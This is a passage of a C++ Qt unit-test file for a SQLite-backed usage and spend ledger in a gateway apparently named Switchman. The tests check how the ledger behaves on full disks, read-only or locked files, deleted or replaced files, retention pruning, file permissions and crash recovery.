        QVERIFY(blocker.open(QIODevice::WriteOnly));
        blocker.close();
        const QString path = dir.filePath(QStringLiteral("not-a-folder/switchman/usage.sqlite"));
        test::FakeClock clock;
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        QVERIFY(!ledger.persistent());
        for (int i = 0; i < 5; ++i)
            ledger.append(row(QStringLiteral("r%1").arg(i), QStringLiteral("t"), QStringLiteral("pa/m"), 1, 1, 0.1,
                              clock.epochMs()));
        clock.advance(UsageLedger::kFlushMs);
        // Still answers, from memory, for this session.
        QCOMPARE(ask(ledger, {}).rows.size(), 5);
        QCOMPARE(m_log.size(), 1);
        QCOMPARE(m_log.first().level, QStringLiteral("error"));
        QVERIFY2(m_log.first().message.contains(path), qPrintable(m_log.first().message));
        QVERIFY(m_log.first().message.contains(QStringLiteral("requests are served as usual")));
    }

    // A file that could not be opened at start (a full disk before the first row, a volume not
    // mounted yet) left usage in memory for the whole session, and budget tenants refused until a
    // restart (probe AC4 F1). It is tried again on the retry timer; once it opens, the rows kept
    // in memory go to it and spend can be read again.
    void aFileThatCouldNotBeOpenedAtStartIsTriedAgain() {
        QTemporaryDir dir;
        const QString blocker = dir.filePath(QStringLiteral("not-a-folder"));
        QFile block(blocker);
        QVERIFY(block.open(QIODevice::WriteOnly));
        block.close();
        const QString path = dir.filePath(QStringLiteral("not-a-folder/switchman/usage.sqlite"));
        test::FakeClock clock;
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        QVERIFY(!ledger.readable());
        QCOMPARE(ledger.health().state, QStringLiteral("unavailable"));
        for (int i = 0; i < 3; ++i)
            ledger.append(row(QStringLiteral("r%1").arg(i), QStringLiteral("t"), QStringLiteral("pa/m"), 1, 1, 0.1,
                              clock.epochMs()));
        QCOMPARE(ask(ledger, {}).rows.size(), 3);
        clock.advance(UsageLedger::kRetryFirstMs); // still blocked: tried, and tried again later
        ledger.flushAndWait();
        QVERIFY(!ledger.readable());

        QVERIFY(QFile::remove(blocker)); // the cause passes
        clock.advance(2 * UsageLedger::kRetryFirstMs);
        QTRY_VERIFY_WITH_TIMEOUT(ledger.persistent(), 5000);
        QVERIFY(ledger.readable());
        ledger.flushAndWait();
        QCOMPARE(ledger.health().state, QStringLiteral("ok"));
        QCOMPARE(requestIds(readFile(path)),
                 QStringList({QStringLiteral("r0"), QStringLiteral("r1"), QStringLiteral("r2")}));
        bool ok = false;
        QCOMPARE(ledger.spentSince(QStringLiteral("t"), clock.epochMs() - 3600'000, 0, &ok), 0.3);
        QVERIFY(ok);
        QVERIFY2(m_log.last().message.contains(QStringLiteral("opened at last")), qPrintable(m_log.last().message));
        // Rows from now on go to the file.
        ledger.append(
            row(QStringLiteral("r3"), QStringLiteral("t"), QStringLiteral("pa/m"), 1, 1, 0.1, clock.epochMs()));
        ledger.flushAndWait();
        QCOMPARE(readFile(path).rows.size(), 4);
    }

    // A create that failed on a full disk leaves an empty file. Read-only, SQLite took it for a
    // ledger of schema version 0, and the log and /healthz gave that as the reason, not the disk.
    void anEmptyFileIsNotBlamedOnItsSchemaVersion() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        QFile empty(path);
        QVERIFY(empty.open(QIODevice::WriteOnly));
        empty.close();
        QVERIFY(setMode(path, 0444)); // cannot be written: what a full disk does to a first write
        test::FakeClock clock;
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        QVERIFY(!ledger.readable());
        QCOMPARE(m_log.size(), 1);
        QVERIFY2(!m_log.first().message.contains(QStringLiteral("schema version")), qPrintable(m_log.first().message));
        QVERIFY2(!ledger.health().error.contains(QStringLiteral("schema version")), qPrintable(ledger.health().error));
        QVERIFY(setMode(path, 0600));
        clock.advance(UsageLedger::kRetryFirstMs);
        QTRY_VERIFY_WITH_TIMEOUT(ledger.persistent(), 5000);
        QCOMPARE(ledger.health().state, QStringLiteral("ok"));
    }

    void aFullDiskCostsOneLineAndKeepsTheRows() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        // A page cap stands in for a full disk: SQLite answers "database or disk is full".
        UsageLedger ledger({path, 400, 17, {}}, clock, logger()); // the schema takes 13 pages
        QVERIFY(ledger.persistent());
        const QString longId = QString(600, QLatin1Char('x'));
        for (int batch = 0; batch < 20; ++batch) {
            for (int i = 0; i < 20; ++i)
                ledger.append(row(longId + QString::number(batch * 100 + i), QStringLiteral("t"),
                                  QStringLiteral("pa/m"), 1, 1, 0.1, clock.epochMs()));
            ledger.flushAndWait();
        }
        QVERIFY(ledger.unwrittenRows() > 0);
        QCOMPARE(m_log.size(), 1);
        QVERIFY2(m_log.first().message.contains(QStringLiteral("cannot write")), qPrintable(m_log.first().message));
        QVERIFY2(m_log.first().message.contains(QStringLiteral("full")), qPrintable(m_log.first().message));
        const UsageReport r = ask(ledger, {});
        QVERIFY(r.rows.size() > 0);
        QVERIFY2(r.error.contains(QStringLiteral("not written yet")), qPrintable(r.error));
    }

    // Rows a write could not store (a full disk here; a file locked past SQLite's wait is the same)
    // were retried only with the next batch: with no later request they were never written, and a
    // clean shutdown lost them. They are retried on a timer that backs off, and at shutdown.
    void rowsAWriteCouldNotStoreAreRetriedOnATimer() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        UsageLedger ledger({path, 400, 17, {}}, clock, logger()); // the schema takes 13 pages
        const int appended = fillUntilUnwritten(ledger, clock);
        QVERIFY(ledger.unwrittenRows() > 0);
        ledger.setMaxPages(1'000'000); // room again; no request follows
        clock.advance(UsageLedger::kRetryFirstMs);
        QTRY_COMPARE_WITH_TIMEOUT(ledger.unwrittenRows(), 0, 5000);
        QCOMPARE(int(readFile(path).rows.size()), appended);
        QCOMPARE(m_log.size(), 2);
        QCOMPARE(m_log.last().message, QStringLiteral("usage ledger: writing again"));
    }

    void rowsAWriteCouldNotStoreAreWrittenAtShutdown() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        int appended = 0;
        {
            UsageLedger ledger({path, 400, 17, {}}, clock, logger()); // the schema takes 13 pages
            appended = fillUntilUnwritten(ledger, clock);
            QVERIFY(ledger.unwrittenRows() > 0);
            ledger.setMaxPages(1'000'000);
        } // a clean shutdown, before the retry timer
        QCOMPARE(int(readFile(path).rows.size()), appended);
        for (const auto &l : std::as_const(m_log))
            QVERIFY2(!l.message.contains(QStringLiteral("lost")), qPrintable(l.message));
    }

    void aShutdownThatCannotWriteSaysHowManyRowsAreLost() {
        QTemporaryDir dir;
        test::FakeClock clock;
        int unwritten = 0;
        {
            UsageLedger ledger({dir.filePath(QStringLiteral("usage.sqlite")), 400, 12, {}}, clock, logger());
            fillUntilUnwritten(ledger, clock);
            unwritten = ledger.unwrittenRows();
            QVERIFY(unwritten > 0);
        }
        QCOMPARE(m_log.last().level, QStringLiteral("error"));
        QVERIFY2(m_log.last().message.contains(QStringLiteral("%1 usage rows could not be written").arg(unwritten)) &&
                     m_log.last().message.contains(QStringLiteral("lost")),
                 qPrintable(m_log.last().message));
    }

    // A file that can be read but not written (a read-only folder) was replaced by an empty ledger in
    // memory: every budget started again at $0 and the history was hidden. It is read now; new rows
    // wait in memory and count as spend.
    void aFileThatCannotBeWrittenIsStillRead() {
        QTemporaryDir dir;
        test::FakeClock clock;
        const QString path = fileWithBobsTwoDollars(dir, clock);
        QCOMPARE(readFile(path).rows.size(), 1);
        UsageLedger::Options o{path, 400, 0, {}};
        o.writable = false;
        UsageLedger ledger(o, clock, logger());
        QVERIFY(ledger.readable());
        QVERIFY(ledger.readOnly());
        QCOMPARE(ledger.spentSince(QStringLiteral("bob"), localMs(2026, 1, 10, 0)), 2.0);
        QCOMPARE(ask(ledger, {}).rows.size(), 1);
        ledger.append(row(QStringLiteral("r2"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 2.0,
                          localMs(2026, 1, 10, 12)));
        ledger.flushAndWait();
        QCOMPARE(ledger.unwrittenRows(), 1);
        QCOMPARE(ledger.spentSince(QStringLiteral("bob"), localMs(2026, 1, 10, 0)), 4.0);
        QCOMPARE(m_log.size(), 1); // said once, at start
        QVERIFY2(m_log.first().message.contains(QStringLiteral("it is read")), qPrintable(m_log.first().message));
    }

    // Another process holding the file in SQLite's exclusive locking mode (a maintenance script, a
    // database tool): every ask to switch it to write-ahead logging waited out the 5 s busy timeout,
    // a hundred times over, before the listener opened: the gateway was down for 8.5 minutes without
    // a word, then blamed a folder that could be written (probe Z4 F2). It starts within seconds now,
    // reads the file, and says what holds it.
    void aFileAnotherProcessHoldsLockedIsReadAndSaysSo() {
        QTemporaryDir dir;
        test::FakeClock clock;
        const QString path = fileWithBobsTwoDollars(dir, clock);
        m_log.clear();
        {
            QSqlDatabase holder = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("holder"));
            holder.setDatabaseName(path);
            QVERIFY(holder.open());
            QSqlQuery q(holder);
            QVERIFY(q.exec(QStringLiteral("PRAGMA locking_mode=EXCLUSIVE")));
            QVERIFY2(q.exec(QStringLiteral("BEGIN EXCLUSIVE")), qPrintable(q.lastError().text()));
            QVERIFY2(q.exec(QStringLiteral("CREATE TABLE held(x)")), qPrintable(q.lastError().text()));
            {
                UsageLedger ledger({path, 400, 0, {}}, clock, logger());
                QVERIFY(ledger.readOnly());
                QCOMPARE(ledger.health().state, QStringLiteral("read-only"));
                QCOMPARE(m_log.size(), 1);
                QVERIFY2(m_log.first().message.contains(QStringLiteral("another process holds it locked")) &&
                             m_log.first().message.contains(QStringLiteral("database is locked")) &&
                             !m_log.first().message.contains(QStringLiteral("folder")),
                         qPrintable(m_log.first().message));
                QCOMPARE(ledger.spentSince(QStringLiteral("bob"), localMs(2026, 1, 10, 0)), 2.0);
            }
            q.exec(QStringLiteral("ROLLBACK"));
            q.finish();
            holder.close();
        }
        QSqlDatabase::removeDatabase(QStringLiteral("holder"));
    }

    void aFileThatCannotBeReadIsNotReadable() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            ledger.append(
                row(QStringLiteral("r1"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 2.0, clock.epochMs()));
        }
        QFile f(path);
        QVERIFY(f.open(QIODevice::ReadWrite));
        f.write("GARBAGEGARBAGE"); // the header, as a bad disk or a stray write leaves it
        f.close();
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        QVERIFY(!ledger.readable());
        QCOMPARE(m_log.size(), 1);
        QVERIFY2(m_log.first().message.contains(QStringLiteral("budget")), qPrintable(m_log.first().message));
        QVERIFY(UsageLedger({QString(), 400, 0, {}}, clock, logger()).readable()); // memory by choice: readable
    }

    // A data folder that cannot be written (a read-only mount, ProtectHome=read-only, a mode
    // narrowed to 0555) and a file its owner can still read. SQLite cannot make the -shm it shares
    // a WAL file through, and the read-only open failed: every tenant with a budget got 503 for the
    // whole session, spend read $0, and the log blamed "schema version -1". The file is read now,
    // with the rows a crash left in its write-ahead log, and `switchman usage` reads it too.
    void aFileInAFolderThatCannotBeWrittenIsRead_data() {
        QTest::addColumn<bool>("crashed");
        QTest::addRow("after a clean shutdown") << false;
        QTest::addRow("with a write-ahead log a crash left") << true;
    }
    void aFileInAFolderThatCannotBeWrittenIsRead() {
        SW_AS_UNPRIVILEGED_USER();
        QFETCH(bool, crashed);
        QTemporaryDir dir;
        const QString folder = dir.filePath(QStringLiteral("switchman"));
        const QString path = folder + QStringLiteral("/usage.sqlite");
        test::FakeClock clock;
        clock.setEpochMs(localMs(2026, 1, 10, 12));
        const qint64 day = localMs(2026, 1, 10, 0);
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            ledger.append(row(QStringLiteral("r1"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 2.0,
                              localMs(2026, 1, 10, 9)));
            ledger.append(row(QStringLiteral("r2"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 3.0,
                              localMs(2026, 1, 10, 10)));
            ledger.flushAndWait();
            if (crashed) { // the files as a crash leaves them: the rows are in the log only
                QVERIFY(QFileInfo(path + QStringLiteral("-wal")).size() > 0);
                QVERIFY(QDir().mkpath(dir.filePath(QStringLiteral("crashed"))));
                for (const QString &suffix : {QString(), QStringLiteral("-wal")})
                    QVERIFY(QFile::copy(path + suffix, dir.filePath(QStringLiteral("crashed/usage.sqlite")) + suffix));
            }
        }
        const QString readFolder = crashed ? dir.filePath(QStringLiteral("crashed")) : folder;
        const QString readPath = readFolder + QStringLiteral("/usage.sqlite");
        QCOMPARE(QFileInfo::exists(readPath + QStringLiteral("-wal")), crashed);
        QVERIFY(setMode(readFolder, 0555));
        const auto writable = qScopeGuard([&readFolder]() { setMode(readFolder, 0755); });
        m_log.clear();

        QCOMPARE(readFile(readPath).rows.size(), 2); // `switchman usage` with no instance running
        UsageLedger ledger({readPath, 400, 0, {}}, clock, logger());
        QVERIFY(ledger.readable());
        QVERIFY(ledger.readOnly());
        QCOMPARE(ledger.health().state, QStringLiteral("read-only"));
        QCOMPARE(ledger.spentSince(QStringLiteral("bob"), day), 5.0);
        QCOMPARE(ask(ledger, {}).rows.size(), 2);
        QCOMPARE(m_log.size(), 1);
        QVERIFY2(m_log.first().message.contains(QStringLiteral("it is read")), qPrintable(m_log.first().message));
        QVERIFY2(!m_log.first().message.contains(QStringLiteral("schema version")), qPrintable(m_log.first().message));
        const QList<SpendWindow> bobsDay{{QStringLiteral("bob"), day, localMs(2026, 1, 11, 0)}};
        QCOMPARE(readSpendOf(ledger, bobsDay), std::optional<QList<double>>(QList<double>{5.0}));

        // Another process that may write the folder adds a row: the next spend read holds it.
        QVERIFY(setMode(readFolder, 0755));
        {
            UsageLedger writer({readPath, 400, 0, {}}, clock, logger());
            writer.append(row(QStringLiteral("w1"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 4.0,
                              localMs(2026, 1, 10, 11)));
        }
        QVERIFY(setMode(readFolder, 0555));
        QCOMPARE(readSpendOf(ledger, bobsDay), std::optional<QList<double>>(QList<double>{9.0}));
        QCOMPARE(ask(ledger, {}).rows.size(), 3);
    }

    // When the file cannot be read at all, the log says why in SQLite's words; it said "schema
    // version -1" for any read that failed. A file its owner made unreadable (chmod 000) stays so:
    // the start's narrowing to 0600 gave it read and write permission back.
    void aFileThatCannotBeReadSaysWhyInSQLitesWords() {
        SW_AS_UNPRIVILEGED_USER();
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            ledger.append(
                row(QStringLiteral("r1"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 2.0, clock.epochMs()));
        }
        QVERIFY(setMode(path, 0));
        m_log.clear();
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        QCOMPARE(modeOf(path), 0);
        QVERIFY(!ledger.readable());
        QCOMPARE(ledger.health().state, QStringLiteral("unavailable"));
        QCOMPARE(m_log.size(), 1);
        const QString said = m_log.first().message;
        QVERIFY2(!said.contains(QStringLiteral("-1")), qPrintable(said));
        QVERIFY2(said.contains(QStringLiteral("unable to open")), qPrintable(said));
        QVERIFY2(ledger.health().error.contains(QStringLiteral("unable to open")), qPrintable(ledger.health().error));
        const QString cli = readFile(path).error;
        QVERIFY2(cli.contains(QStringLiteral("unable to open")) && !cli.contains(QStringLiteral("-1")),
                 qPrintable(cli));
    }

    // chmod 444 on the ledger: its owner wants it read, not written. The start narrowed it to 0600,
    // which gave the write bit back, and wrote into it. It stays without write permission (others
    // lose theirs), is read, and is written again once its owner allows it.
    void aFileNoOneMayWriteIsReadNotWritten() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        clock.setEpochMs(localMs(2026, 1, 10, 12));
        const qint64 day = localMs(2026, 1, 10, 0);
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            ledger.append(row(QStringLiteral("r1"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 2.0,
                              localMs(2026, 1, 10, 9)));
        }
        QVERIFY(setMode(path, 0444));
        m_log.clear();
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            QCOMPARE(modeOf(path), 0400);
            QVERIFY(ledger.readOnly());
            QCOMPARE(ledger.health().state, QStringLiteral("read-only"));
            QVERIFY2(ledger.health().error.contains(QStringLiteral("read-only")), qPrintable(ledger.health().error));
            QCOMPARE(ledger.spentSince(QStringLiteral("bob"), day), 2.0);
            ledger.append(row(QStringLiteral("r2"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 2.0,
                              localMs(2026, 1, 10, 12)));
            ledger.flushAndWait();
            QCOMPARE(ledger.unwrittenRows(), 1);
            QCOMPARE(ledger.spentSince(QStringLiteral("bob"), day), 4.0);
            QCOMPARE(readFile(path).rows.size(), 1); // not written
            QCOMPARE(modeOf(path), 0400);

            QVERIFY(setMode(path, 0600)); // its owner allows writes again: the rows that waited go in
            ledger.append(row(QStringLiteral("r3"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 2.0,
                              localMs(2026, 1, 10, 12)));
            ledger.flushAndWait();
            QCOMPARE(ledger.unwrittenRows(), 0);
            QVERIFY(!ledger.readOnly());
            QCOMPARE(ledger.health().state, QStringLiteral("ok"));
        }
        QCOMPARE(requestIds(readFile(path)),
                 QStringList({QStringLiteral("r1"), QStringLiteral("r2"), QStringLiteral("r3")}));
    }

    // The file deleted while the gateway runs (to "reset usage", or by a clean-up): every row after
    // it went to the deleted file, silently, and was gone at the next start. A new file is started
    // at the path, once said in the log, and keeps the rows from then on.
    void aDeletedFileIsStartedAgain_data() {
        QTest::addColumn<bool>("withItsLog");
        QTest::addRow("with its -wal and -shm") << true;
        QTest::addRow("the file alone") << false;
    }
    void aDeletedFileIsStartedAgain() {
        QFETCH(bool, withItsLog);
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            ledger.append(
                row(QStringLiteral("r1"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 2.0, clock.epochMs()));
            ledger.flushAndWait();
            QVERIFY(QFile::remove(path));
            if (withItsLog)
                for (const QString &suffix : {QStringLiteral("-wal"), QStringLiteral("-shm")})
                    QVERIFY(QFile::remove(path + suffix));
            ledger.append(
                row(QStringLiteral("r2"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 2.0, clock.epochMs()));
            ledger.flushAndWait();
            QVERIFY(QFileInfo::exists(path));
            ledger.append(
                row(QStringLiteral("r3"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 2.0, clock.epochMs()));
            ledger.flushAndWait();
            QCOMPARE(m_log.size(), 1);
            QCOMPARE(m_log.first().level, QStringLiteral("warn"));
            QVERIFY2(m_log.first().message.contains(path + QStringLiteral(" was deleted")) &&
                         m_log.first().message.contains(QStringLiteral("written to a new file")),
                     qPrintable(m_log.first().message));
            QCOMPARE(ledger.health().state, QStringLiteral("ok"));
        }
        QCOMPARE(requestIds(readFile(path)), QStringList({QStringLiteral("r2"), QStringLiteral("r3")}));
    }

    // The file renamed over (a backup put back, `mv`): rows went on to the old file, and at the next
    // start its stale write-ahead log was applied to the new one. Rows go to the new file now, spend
    // is read from it, and the old log's pages never reach it.
    void aFileRenamedOverIsTheLedgerFromThenOn() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        const QString other = dir.filePath(QStringLiteral("restored.sqlite"));
        test::FakeClock clock;
        clock.setEpochMs(localMs(2026, 1, 10, 12));
        const qint64 day = localMs(2026, 1, 10, 0);
        {
            UsageDatabase restored;
            QString error;
            QVERIFY2(restored.open(other, UsageDatabase::Mode::ReadWrite, &error), qPrintable(error));
            QVERIFY2(restored.insert({row(QStringLiteral("x1"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1,
                                          5.0, localMs(2026, 1, 10, 8))},
                                     &error),
                     qPrintable(error));
        }
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            ledger.append(row(QStringLiteral("r1"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 2.0,
                              localMs(2026, 1, 10, 9)));
            ledger.flushAndWait();
            QCOMPARE(ledger.spentSince(QStringLiteral("bob"), day), 2.0);
            QVERIFY(std::rename(QFile::encodeName(other).constData(), QFile::encodeName(path).constData()) == 0);
            ledger.append(row(QStringLiteral("r2"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 1.0,
                              localMs(2026, 1, 10, 10)));
            ledger.flushAndWait();
            QCOMPARE(ledger.spentSince(QStringLiteral("bob"), day), 6.0); // x1 and r2: the file's spend
            QCOMPARE(requestIds(ask(ledger, {})), QStringList({QStringLiteral("r2"), QStringLiteral("x1")}));
            QCOMPARE(m_log.size(), 1);
            QVERIFY2(m_log.first().message.contains(path + QStringLiteral(" was replaced")),
                     qPrintable(m_log.first().message));
        }
        QCOMPARE(requestIds(readFile(path)), QStringList({QStringLiteral("r2"), QStringLiteral("x1")}));
    }

    // Rows stamped after a period's end (a clock that was ahead) are not this period's spend.
    void spendIsBoundedByThePeriodsEnd() {
        QTemporaryDir dir;
        test::FakeClock clock;
        UsageLedger ledger({dir.filePath(QStringLiteral("usage.sqlite")), 400, 0, {}}, clock, logger());
        ledger.append(row(QStringLiteral("r1"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 1.0,
                          localMs(2026, 1, 10, 9)));
        ledger.append(row(QStringLiteral("r2"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 5.0,
                          localMs(2026, 1, 11, 9)));
        QCOMPARE(ledger.spentSince(QStringLiteral("bob"), localMs(2026, 1, 10, 0), localMs(2026, 1, 11, 0)), 1.0);
        QCOMPARE(ledger.spentSince(QStringLiteral("bob"), localMs(2026, 1, 10, 0)), 6.0);
    }

    // Replicas share the file. A spend read (the budgets' every second) holds another writer's rows
    // and the reader's own, pending ones included; with no other writer since the last read it
    // answers "nothing new" (the reader counted its own rows as it recorded them).
    void aSpendReadHoldsAnotherWritersRows() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        UsageLedger mine({path, 400, 0, {}}, clock, logger());
        UsageLedger replica({path, 400, 0, {}}, clock, logger());
        const QList<SpendWindow> bobsDay{{QStringLiteral("bob"), localMs(2026, 1, 10, 0), localMs(2026, 1, 11, 0)}};
        const auto read = [&mine, &bobsDay]() {
            std::optional<std::optional<QList<double>>> out;
            QObject context;
            mine.readSpend(bobsDay, &context, [&out](std::optional<QList<double>> spent) { out = spent; });
            if (!test::waitUntil([&out]() { return out.has_value(); }, 5000))
                qWarning("the ledger did not answer");
            return out.value_or(std::nullopt);
        };
        mine.append(row(QStringLiteral("r1"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 1.0,
                        localMs(2026, 1, 10, 9)));
        QCOMPARE(read(), std::optional<QList<double>>(QList<double>{1.0})); // the first read sums; r1 was pending
        QCOMPARE(read(), std::nullopt);
        mine.append(row(QStringLiteral("r2"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 1.0,
                        localMs(2026, 1, 10, 10)));
        QCOMPARE(read(), std::nullopt); // its own write is no news
        replica.append(row(QStringLiteral("x1"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 4.0,
                           localMs(2026, 1, 10, 11)));
        replica.append(row(QStringLiteral("x2"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 8.0,
                           localMs(2026, 1, 11, 11))); // the next day's
        replica.flushAndWait();
        QCOMPARE(read(), std::optional<QList<double>>(QList<double>{6.0}));
        QCOMPARE(read(), std::nullopt);
    }

    // Tenant names, models and spend: the owner's only, as the other private files.
    void theFileIsTheOwnersOnly() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        const QFileDevice::Permissions others =
            QFileDevice::ReadGroup | QFileDevice::WriteGroup | QFileDevice::ReadOther | QFileDevice::WriteOther;
        test::FakeClock clock;
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            ledger.append(
                row(QStringLiteral("r1"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 1.0, clock.epochMs()));
            ledger.flushAndWait();
            for (const QString &f : {path, path + QStringLiteral("-wal"), path + QStringLiteral("-shm")}) {
                QVERIFY2(QFileInfo::exists(f), qPrintable(f));
                QVERIFY2(!(QFile::permissions(f) & others), qPrintable(f));
            }
        }
        // A file an older Switchman left world-readable is narrowed at the next start.
        QVERIFY(
            QFile::setPermissions(path, QFile::permissions(path) | QFileDevice::ReadGroup | QFileDevice::ReadOther));
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        QVERIFY(!(QFile::permissions(path) & others));
    }

    void aLedgerInMemoryKeepsOnlyTheNewestRows() {
        // No file: every answered request adds a row, so memory must stop growing at the cap.
        test::FakeClock clock;
        UsageLedger ledger({QString(), 400, 0, {}}, clock, logger());
        QVERIFY(!ledger.persistent());
        ledger.setMemoryMaxRows(10);
        for (int batch = 0; batch < 3; ++batch) {
            for (int i = 0; i < 9; ++i)
                ledger.append(row(QStringLiteral("r%1").arg(batch * 9 + i), QStringLiteral("t"), QStringLiteral("pa/m"),
                                  1, 1, 0.1, clock.epochMs() + batch * 9 + i));
            ledger.flushAndWait();
        }
        const UsageReport r = ask(ledger, {});
        QCOMPARE(r.rows.size(), 10);
        QStringList ids;
        for (const UsageRow &x : r.rows)
            ids << x.requestId;
        QVERIFY2(ids.contains(QStringLiteral("r26")) && ids.contains(QStringLiteral("r17")), qPrintable(ids.join(',')));
        QVERIFY2(!ids.contains(QStringLiteral("r16")), qPrintable(ids.join(',')));
        // Said once, not once per batch.
        QCOMPARE(m_log.size(), 1);
        QCOMPARE(m_log.first().level, QStringLiteral("warn"));
        QVERIFY2(m_log.first().message.contains(QStringLiteral("newest 10 rows")), qPrintable(m_log.first().message));
    }

    void aLedgerFileKeepsEveryRow() {
        QTemporaryDir dir;
        test::FakeClock clock;
        UsageLedger ledger({dir.filePath(QStringLiteral("usage.sqlite")), 400, 0, {}}, clock, logger());
        ledger.setMemoryMaxRows(10); // the memory cap does not apply to a file
        for (int i = 0; i < 25; ++i)
            ledger.append(row(QStringLiteral("r%1").arg(i), QStringLiteral("t"), QStringLiteral("pa/m"), 1, 1, 0.1,
                              clock.epochMs() + i));
        ledger.flushAndWait();
        QCOMPARE(ask(ledger, {}).rows.size(), 25);
        QVERIFY(m_log.isEmpty());
    }

    void prunesPastRetentionDaily() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        clock.setEpochMs(localMs(2026, 3, 1));
        const qint64 day = 86'400'000;
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            for (int age : {40, 11, 9, 0})
                ledger.append(row(QStringLiteral("age%1").arg(age), QStringLiteral("t"), QStringLiteral("pa/m"), 1, 1,
                                  0.1, clock.epochMs() - age * day - 1000));
        }
        UsageLedger ledger({path, 10, 0, {}}, clock, logger());
        // At start: older than 10 days goes.
        QTRY_COMPARE_WITH_TIMEOUT(ask(ledger, {}).rows.size(), 2, 5000);
        QCOMPARE(ask(ledger, {}).rows.first().requestId, QStringLiteral("age9"));
        // A day later (the daily prune), the 9-day-old row is 10 days and a bit old.
        clock.advance(UsageLedger::kPruneEveryMs + 1000);
        QTRY_COMPARE_WITH_TIMEOUT(ask(ledger, {}).rows.size(), 1, 5000);
        QCOMPARE(ask(ledger, {}).rows.first().requestId, QStringLiteral("age0"));
    }

    // A crash (kill -9, OOM, power) during a streamed answer lost the whole answer from the ledger
    // and the budget, though the provider billed it: a row is written only when an answer ends. At
    // commit the answer gets an open row; the next start bills those its writer left.
    void anAnswerACrashCutIsBilledAtTheNextStart() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        clock.setEpochMs(localMs(2026, 1, 10));
        const qint64 at = clock.epochMs();
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            ledger.append(row(QStringLiteral("req_done"), QStringLiteral("team-a"), QStringLiteral("pa/claude-a"), 10,
                              5, 0.5, at));
            ledger.openAnswer(openRow(QStringLiteral("req_long"), 0.25, at));
            clock.advance(UsageLedger::kFlushMs);
            QTRY_COMPARE_WITH_TIMEOUT(openRows(path), 1, 5000); // with the batch, off the request path
            ledger.openAnswer(openRow(QStringLiteral("req_late"), 0.125, at + 500)); // not in a batch yet
        } // the crash: neither answer's final row came (closing writes the late one as open, not as ended)
        QCOMPARE(readFile(path).rows.size(), 1); // nothing says how they ended: not billed as answers
        QCOMPARE(openRows(path), 2);
        QVERIFY(m_log.isEmpty());

        {
            // The next start: this pid with another writer id (a restart that got the same pid).
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            QCOMPARE(m_log.size(), 1);
            QCOMPARE(
                m_log.first().message,
                QStringLiteral("usage: 2 answers cut by a crash (or a pause past the heartbeat) billed by estimate"));
            QCOMPARE(ledger.spentSince(QStringLiteral("team-a"), at - 1000), 0.875); // budgets count them
            const UsageReport r = ask(ledger, {});
            QCOMPARE(r.rows.size(), 3);
            QCOMPARE(r.rows.at(1).requestId, QStringLiteral("req_long"));
            QCOMPARE(r.rows.at(1).outcome, QStringLiteral("interrupted"));
